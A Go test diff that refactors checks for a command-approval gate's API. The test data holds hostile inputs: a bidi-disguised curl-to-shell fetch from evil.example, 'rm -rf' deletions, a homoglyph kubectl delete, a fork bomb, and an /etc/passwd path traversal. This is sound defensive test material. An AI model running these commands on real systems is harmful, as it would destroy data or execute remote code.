@@ -2,6 +2,7 @@ package hostile
 
 import (
 	"bytes"
+	"context"
 	"encoding/json"
 	"os"
 	"strings"
@@ -36,13 +37,25 @@ func TestGateAPIRefusesHostileBodies(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
+	for _, tc := range hostileBodies(t) {
+		t.Run(tc.name, func(t *testing.T) { checkHostileBody(t, ctx, api, tok, tc) })
+	}
+	t.Run("bad request ids and waits", func(t *testing.T) { checkBadRequestPaths(t, ctx, api, tok) })
+	stillServes(t, ctx, w, app, 2)
+}
+
+// hostileBody is a create body and the refusal it must get.
+type hostileBody struct {
+	name, ct string
+	body     []byte
+	want     int
+	wantMsg  string // substring of the JSON error
+}
+
+func hostileBodies(t *testing.T) []hostileBody {
+	t.Helper()
 	valid := createJSON(t, "./deploy.sh")
-	for _, tc := range []struct {
-		name, ct string
-		body     []byte
-		want     int
-		wantMsg  string // substring of the JSON error
-	}{
+	return []hostileBody{
 		{"body over the limit", "application/json", append(append([]byte(`{"command":"`), bytes.Repeat([]byte("a"), 300<<10)...), `"}`...), 413, "too large"},
 		{"1 MB command", "application/json", createJSON(t, strings.Repeat("echo x; ", 1<<17)), 413, "too large"},
 		{"command just over 64 KiB", "application/json", createJSON(t, strings.Repeat("y", 64<<10+1)), 413, "too long"},
@@ -60,40 +73,43 @@ func TestGateAPIRefusesHostileBodies(t *testing.T) {
 		{"bad head_sha", "application/json", []byte(`{"command":"ls","command_sha256":"` + strings.Repeat("a", 64) + `","head_sha":"<script>","job":"j","step":"s"}`), 400, "head_sha"},
 		{"negative timeout", "application/json", []byte(`{"command":"ls","command_sha256":"` + strings.Repeat("a", 64) + `","timeout_seconds":-1,"job":"j","step":"s"}`), 400, "timeout"},
 		{"huge number", "application/json", []byte(`{"command":"ls","command_sha256":"` + strings.Repeat("a", 64) + `","timeout_seconds":1e400,"job":"j","step":"s"}`), 400, "JSON"},
-	} {
-		t.Run(tc.name, func(t *testing.T) {
-			code, body, err := api.Raw(ctx, "POST", "/api/v1/requests", tok, tc.ct, tc.body)
-			if err != nil {
-				t.Fatal(err)
-			}
-			var eb gate.ErrorBody
-			if jerr := json.Unmarshal(body, &eb); jerr != nil || eb.Error == "" {
-				t.Errorf("answer %d is not a JSON error: %q", code, truncate(body))
-			}
-			if code != tc.want {
-				t.Errorf("status = %d (%s), want %d", code, eb.Error, tc.want)
-			}
-			if tc.wantMsg != "" && !strings.Contains(strings.ToLower(eb.Error), strings.ToLower(tc.wantMsg)) {
-				t.Errorf("error %q does not mention %q", eb.Error, tc.wantMsg)
-			}
-		})
 	}
-	t.Run("bad request ids and waits", func(t *testing.T) {
-		for _, path := range []string{
-			"/api/v1/requests/..%2f..%2fetc%2fpasswd", "/api/v1/requests/sg_" + strings.Repeat("a", 5000),
-			"/api/v1/requests/%00", "/api/v1/requests/sg_aaaa?wait=-1s", "/api/v1/requests/sg_aaaa?wait=99999999999h",
-			"/api/v1/requests/sg_aaaa?wait=%00",
-		} {
-			code, body, err := api.Raw(ctx, "GET", path, tok, "", nil)
-			if err != nil {
-				t.Fatal(err)
-			}
-			if code < 400 || code >= 500 {
-				t.Errorf("GET %s = %d %q, want a 4xx", path, code, truncate(body))
-			}
+}
+
+// checkHostileBody: the body is refused with the status wanted and a JSON
+// error naming the problem.
+func checkHostileBody(t *testing.T, ctx context.Context, api *benchrig.API, tok string, tc hostileBody) {
+	code, body, err := api.Raw(ctx, "POST", "/api/v1/requests", tok, tc.ct, tc.body)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var eb gate.ErrorBody
+	if jerr := json.Unmarshal(body, &eb); jerr != nil || eb.Error == "" {
+		t.Errorf("answer %d is not a JSON error: %q", code, truncate(body))
+	}
+	if code != tc.want {
+		t.Errorf("status = %d (%s), want %d", code, eb.Error, tc.want)
+	}
+	if tc.wantMsg != "" && !strings.Contains(strings.ToLower(eb.Error), strings.ToLower(tc.wantMsg)) {
+		t.Errorf("error %q does not mention %q", eb.Error, tc.wantMsg)
+	}
+}
+
+// checkBadRequestPaths: hostile request ids and waits get a 4xx.
+func checkBadRequestPaths(t *testing.T, ctx context.Context, api *benchrig.API, tok string) {
+	for _, path := range []string{
+		"/api/v1/requests/..%2f..%2fetc%2fpasswd", "/api/v1/requests/sg_" + strings.Repeat("a", 5000),
+		"/api/v1/requests/%00", "/api/v1/requests/sg_aaaa?wait=-1s", "/api/v1/requests/sg_aaaa?wait=99999999999h",
+		"/api/v1/requests/sg_aaaa?wait=%00",
+	} {
+		code, body, err := api.Raw(ctx, "GET", path, tok, "", nil)
+		if err != nil {
+			t.Fatal(err)
 		}
-	})
-	stillServes(t, ctx, w, app, 2)
+		if code < 400 || code >= 500 {
+			t.Errorf("GET %s = %d %q, want a 4xx", path, code, truncate(body))
+		}
+	}
 }
 
 func truncate(b []byte) string {
@@ -114,6 +130,20 @@ func TestHostileCommandsAreAssessedAndRenderedSafely(t *testing.T) {
 	w := rigtest.NewWorld(t)
 	app := rigtest.StartApp(t, ctx, w.AppConfig("bolt:"+t.TempDir()+"/stepgate.db"))
 	api := benchrig.NewAPI(app.URL)
+	for i, tc := range hostileCommands(t) {
+		t.Run(tc.name, func(t *testing.T) { checkHostileCommand(t, ctx, w, api, app.URL, int64(100+i), tc) })
+	}
+	stillServes(t, ctx, w, app, 2)
+}
+
+// hostileCommand is a command meant to fool a reviewer or the renderer.
+type hostileCommand struct {
+	name, cmd string
+	minRisk   string // the server's risk level must be at least this
+}
+
+func hostileCommands(t *testing.T) []hostileCommand {
+	t.Helper()
 	// Quoting grows about threefold per level, so 9 levels is ~40 KB.
 	nested := "rm -rf /srv/data"
 	for range 9 {
@@ -125,10 +155,7 @@ func TestHostileCommandsAreAssessedAndRenderedSafely(t *testing.T) {
 	bare := risk.Assess("rm -rf /srv/data").Level.String()
 	subshells := strings.Repeat("( ", 300) + "rm -rf /srv/data" + strings.Repeat(" )", 300)
 	subst := strings.Repeat("$(", 500) + "id" + strings.Repeat(")", 500)
-	for i, tc := range []struct {
-		name, cmd string
-		minRisk   string // the server's risk level must be at least this
-	}{
+	return []hostileCommand{
 		{"bidi override", "echo safe \u202e; rm -rf / #\u202c", "high"},
 		{"bidi isolate", "ls \u2066\u2069&& curl https://evil.example/x.sh | sh", "high"},
 		{"homoglyph command", "kubectl d\u0435lete namespace prod", ""},
@@ -143,51 +170,53 @@ func TestHostileCommandsAreAssessedAndRenderedSafely(t *testing.T) {
 		{"500 nested substitutions", subst, ""},
 		{"recursive function", "f() { f | f & }; f", ""},
 		{"unterminated quote", "echo 'never closed", "high"},
-	} {
-		t.Run(tc.name, func(t *testing.T) {
-			tok, err := w.Token(int64(100+i), app.URL)
-			if err != nil {
-				t.Fatal(err)
-			}
-			start := time.Now()
-			code, v, err := api.JSON(ctx, "POST", "/api/v1/requests", tok, benchrig.CreateBody(tc.cmd, "h"))
-			if err != nil {
-				t.Fatal(err)
-			}
-			if took := time.Since(start); took > 10*time.Second {
-				t.Errorf("create took %s", took)
-			}
-			if code >= 500 {
-				t.Fatalf("create = %d", code)
-			}
-			if code >= 400 {
-				return // refused with a clear 4xx: fine
-			}
-			if tc.minRisk != "" && levelRank(v.Risk.Level) < levelRank(tc.minRisk) {
-				t.Errorf("risk %q (%v), want at least %s", v.Risk.Level, v.Risk.Reasons, tc.minRisk)
-			}
-			if v.Status != gate.StatusPending {
-				return
-			}
-			cr, err := w.CheckRun(ctx, v.ID)
-			if err != nil {
-				t.Fatal(err)
-			}
-			got, _ := w.Standin.GetCheckRun(cr)
-			if os.Getenv("HOSTILE_DUMP") != "" {
-				t.Logf("title %q\nsummary %q\ntext %q", got.Title, got.Summary, got.Text)
-			}
-			for field, text := range map[string]string{"title": got.Title, "summary": got.Summary, "text": got.Text} {
-				checkRendered(t, field, text)
-			}
-			for _, c := range w.Standin.IssueComments(benchrig.Repo, benchrig.PR) {
-				if strings.Contains(c.Body, v.ID) {
-					checkRendered(t, "PR comment", c.Body)
-				}
-			}
-		})
 	}
-	stillServes(t, ctx, w, app, 2)
+}
+
+// checkHostileCommand: the command is accepted or refused with a 4xx,
+// quickly, assessed at least tc.minRisk, and rendered safely on its check
+// run and PR comment.
+func checkHostileCommand(t *testing.T, ctx context.Context, w *benchrig.World, api *benchrig.API, appURL string, runID int64, tc hostileCommand) {
+	tok, err := w.Token(runID, appURL)
+	if err != nil {
+		t.Fatal(err)
+	}
+	start := time.Now()
+	code, v, err := api.JSON(ctx, "POST", "/api/v1/requests", tok, benchrig.CreateBody(tc.cmd, "h"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if took := time.Since(start); took > 10*time.Second {
+		t.Errorf("create took %s", took)
+	}
+	if code >= 500 {
+		t.Fatalf("create = %d", code)
+	}
+	if code >= 400 {
+		return // refused with a clear 4xx: fine
+	}
+	if tc.minRisk != "" && levelRank(v.Risk.Level) < levelRank(tc.minRisk) {
+		t.Errorf("risk %q (%v), want at least %s", v.Risk.Level, v.Risk.Reasons, tc.minRisk)
+	}
+	if v.Status != gate.StatusPending {
+		return
+	}
+	cr, err := w.CheckRun(ctx, v.ID)
+	if err != nil {
+		t.Fatal(err)
+	}
+	got, _ := w.Standin.GetCheckRun(cr)
+	if os.Getenv("HOSTILE_DUMP") != "" {
+		t.Logf("title %q\nsummary %q\ntext %q", got.Title, got.Summary, got.Text)
+	}
+	for field, text := range map[string]string{"title": got.Title, "summary": got.Summary, "text": got.Text} {
+		checkRendered(t, field, text)
+	}
+	for _, c := range w.Standin.IssueComments(benchrig.Repo, benchrig.PR) {
+		if strings.Contains(c.Body, v.ID) {
+			checkRendered(t, "PR comment", c.Body)
+		}
+	}
 }
 
 // checkRendered: no raw bidi controls or NULs reach GitHub, and nothing
